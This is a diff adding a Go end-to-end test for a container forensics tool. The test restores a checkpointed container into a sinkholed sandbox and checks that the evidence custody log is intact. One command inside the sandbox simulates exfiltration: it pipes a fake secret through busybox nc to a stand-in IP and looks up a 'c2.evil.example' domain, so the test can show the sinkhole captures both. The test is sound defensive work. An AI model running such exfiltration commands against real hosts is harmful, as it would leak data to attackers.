@@ -1,0 +1,138 @@
+package e2e
+
+import (
+	"encoding/json"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/podsleuth/podsleuth/forensics/evidence"
+	"github.com/podsleuth/podsleuth/sandbox"
+	"github.com/podsleuth/podsleuth/test/fixtures"
+	"github.com/podsleuth/podsleuth/test/testenv"
+)
+
+// TestSandboxLocalCLI drives the real binary: a Podman checkpoint archive in the evidence store
+// is restored by evidence ID with --local --sinkhole, inspected, entered, made to call home, and
+// destroyed; every step lands in the evidence's custody log.
+func TestSandboxLocalCLI(t *testing.T) {
+	testenv.RequireRoot(t)
+	criu := testenv.CRIU(t)
+	testenv.Tool(t, "nft")
+	testenv.Tool(t, "nsenter")
+	k8s := os.Getenv("PODSLEUTH_K8S_BIN")
+	runc, busybox := filepath.Join(k8s, "runc"), filepath.Join(k8s, "busybox")
+	if _, err := os.Stat(runc); k8s == "" || err != nil {
+		runc = testenv.Tool(t, "runc")
+	}
+	if _, err := os.Stat(busybox); k8s == "" || err != nil {
+		busybox = testenv.Tool(t, "busybox")
+	}
+	tmp := t.TempDir()
+	exe := filepath.Join(tmp, "podsleuth")
+	build := exec.Command("go", "build", "-o", exe, "./cmd/podsleuth")
+	build.Dir = testenv.Root()
+	out, err := build.CombinedOutput()
+	require.NoError(t, err, "%s", out)
+
+	data, cache := filepath.Join(tmp, "data"), filepath.Join(tmp, "cache")
+	st, err := evidence.Open(data)
+	require.NoError(t, err)
+	item, err := st.Import(t.Context(), filepath.Join(fixtures.Dir(), "archives", "podman-runc.tar"), evidence.Manifest{CaseID: "IR-2024-0042"})
+	require.NoError(t, err)
+	rootfs := podmanFixtureRootfs(t, busybox)
+
+	env := append(os.Environ(), "PODSLEUTH_DATA_DIR="+data, "PODSLEUTH_CACHE_DIR="+cache,
+		"PODSLEUTH_SANDBOX_CRIU="+criu, "PODSLEUTH_SANDBOX_RUNTIME="+runc)
+	run := func(args ...string) string {
+		t.Helper()
+		c := exec.Command(exe, args...)
+		c.Env = env
+		out, err := c.CombinedOutput()
+		require.NoError(t, err, "podsleuth %s: %s", strings.Join(args, " "), out)
+		return string(out)
+	}
+
+	var info sandbox.Info
+	require.NoError(t, json.Unmarshal([]byte(run("restore", item.ID, "--local", "--sinkhole", "--rootfs", rootfs, "-o", "json")), &info))
+	t.Cleanup(func() {
+		c := exec.Command(exe, "sandbox", "destroy", info.ID)
+		c.Env = env
+		_ = c.Run()
+	})
+	require.Equal(t, "stopped", info.State)
+	require.Equal(t, item.ID, info.EvidenceID)
+	require.Equal(t, "container", info.Kind)
+
+	require.Contains(t, run("sandbox", "list"), info.ID)
+	ps := run("sandbox", "ps", info.ID)
+	require.Contains(t, ps, "/target --workdir /work --mode full")
+	require.Contains(t, ps, "T") // stopped
+
+	run("sandbox", "resume", info.ID)
+	// a call home from inside the restored container: busybox nc in its rootfs
+	got := run("sandbox", "enter", info.ID, "--", "/bin/busybox", "sh", "-c",
+		"echo 'POST /exfil secret=hunter2' | /bin/busybox nc -w 2 203.0.113.66 8443; /bin/busybox nslookup c2.evil.example 192.0.2.53 || true")
+	require.Contains(t, got, "198.18.0.1", "DNS answered by the sinkhole")
+
+	var evs []sandbox.SinkholeEvent
+	require.Eventually(t, func() bool {
+		evs = nil
+		_ = json.Unmarshal([]byte(run("sandbox", "connections", info.ID, "-o", "json")), &evs)
+		return len(evs) >= 2
+	}, 5*time.Second, 100*time.Millisecond)
+	var sawTCP, sawDNS bool
+	for _, e := range evs {
+		if e.Proto == "tcp" && e.Dst == "203.0.113.66:8443" && strings.Contains(e.FirstBytes, "POST /exfil") {
+			sawTCP = true
+		}
+		if e.Proto == "dns" && e.Query == "c2.evil.example" {
+			sawDNS = true
+		}
+	}
+	require.True(t, sawTCP && sawDNS, "%+v", evs)
+
+	run("sandbox", "destroy", info.ID)
+	require.NotContains(t, run("sandbox", "list"), info.ID)
+	_, err = os.Stat(info.Dir)
+	require.ErrorIs(t, err, os.ErrNotExist)
+
+	events, err := st.Custody(item.ID)
+	require.NoError(t, err)
+	var actions []string
+	for _, e := range events {
+		actions = append(actions, e.Action+":"+e.Details["sandbox_action"])
+	}
+	for _, want := range []string{"restored:restored", "sandbox:resumed", "sandbox:entered", "sandbox:sinkhole-tcp", "sandbox:sinkhole-dns", "sandbox:destroyed"} {
+		require.Contains(t, actions, want)
+	}
+	v, err := st.Verify(t.Context(), item.ID)
+	require.NoError(t, err)
+	require.True(t, v.OK, "custody chain intact: %+v", v)
+}
+
+// podmanFixtureRootfs rebuilds the base rootfs of the Podman fixtures (gen.sh make_rootfs).
+func podmanFixtureRootfs(t *testing.T, busybox string) string {
+	t.Helper()
+	gcc := testenv.Tool(t, "gcc")
+	r := filepath.Join(t.TempDir(), "rootfs")
+	for _, d := range []string{"bin", "work", "tmp", "proc", "sys", "dev", "etc", "var/log", "root"} {
+		require.NoError(t, os.MkdirAll(filepath.Join(r, d), 0o755))
+	}
+	out, err := exec.Command("cp", busybox, filepath.Join(r, "bin", "busybox")).CombinedOutput()
+	require.NoError(t, err, "%s", out)
+	for _, a := range []string{"sh", "ls", "cat", "cp", "mkdir", "chmod", "rm", "sleep", "ps", "id"} {
+		require.NoError(t, os.Symlink("busybox", filepath.Join(r, "bin", a)))
+	}
+	out, err = exec.Command(gcc, "-static", "-O1", "-s", "-w", "-o", filepath.Join(r, "target"), filepath.Join(fixtures.Dir(), "src", "target.c")).CombinedOutput()
+	require.NoError(t, err, "%s", out)
+	require.NoError(t, os.WriteFile(filepath.Join(r, "etc", "passwd"), []byte("root:x:0:0:root:/root:/bin/sh\n"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(r, "etc", "group"), []byte("root:x:0:\n"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(r, "var", "log", "auth.log"), []byte("x\n"), 0o644))
+	return r
+}
